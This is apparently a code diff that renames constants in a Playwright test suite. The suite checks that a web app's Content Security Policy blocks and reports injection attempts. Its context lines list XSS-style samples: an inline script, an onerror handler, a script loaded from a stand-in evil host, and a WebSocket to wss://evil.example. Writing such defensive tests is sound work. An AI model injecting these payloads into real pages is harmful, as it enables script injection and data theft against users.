@@ -19,7 +19,7 @@ type Attempt = Violation & { name: string }
 
 const attempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })
 
-const MARKUP: readonly Attempt[] = [
+const MARKUP_ATTEMPTS: readonly Attempt[] = [
   attempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
   attempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
   attempt(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
@@ -40,7 +40,7 @@ const MARKUP: readonly Attempt[] = [
 const untrustedAttempt = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
 /** Attempts of injected code that already runs. Each `name` is the code of the attempt. */
-const CODE: readonly Attempt[] = [
+const CODE_ATTEMPTS: readonly Attempt[] = [
   attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
   attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
   attempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
@@ -103,16 +103,16 @@ async function expectNoEffect(page: Page, outsideRequests: readonly string[]): P
 test.use({ serviceWorkers: 'allow', contextOptions: { reducedMotion: 'reduce' } })
 
 test('injected markup is blocked and reported, and the app still works', async ({ page }) => {
-  const outsideRequests = await openWith(page, MARKUP.map(({ name }) => name).join('\n'))
-  const expected = MARKUP.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+  const outsideRequests = await openWith(page, MARKUP_ATTEMPTS.map(({ name }) => name).join('\n'))
+  const expected = MARKUP_ATTEMPTS.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
   // The policy in the page and the policy in the header both report each attempt. Nothing else is
   // reported.
-  const reported = async () => {
+  const readReported = async () => {
     const violations = await page.evaluate(() => globalThis.reportedViolations)
     return violations.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
   }
-  await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
-  expect(await reported()).toEqual(expected.flatMap((violation) => [violation, violation]))
+  await expect.poll(async () => [...new Set(await readReported())]).toEqual([...new Set(expected)])
+  expect(await readReported()).toEqual(expected.flatMap((violation) => [violation, violation]))
   await expectNoEffect(page, outsideRequests)
   await page.getByLabel('Username').fill('wulan_r')
   await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
@@ -121,7 +121,7 @@ test('injected markup is blocked and reported, and the app still works', async (
 test('attempts of injected code that already runs are blocked and reported', async ({ page }) => {
   const outsideRequests = await openWith(page, '')
   expect(await page.evaluate(() => reportedViolations)).toEqual([])
-  for (const { name, directive, blocked } of CODE)
+  for (const { name, directive, blocked } of CODE_ATTEMPTS)
     await test.step(name, async () => {
       await page.evaluate(() => (reportedViolations.length = 0))
       // The code runs in a task of the page, because code that the debugger runs may do more.
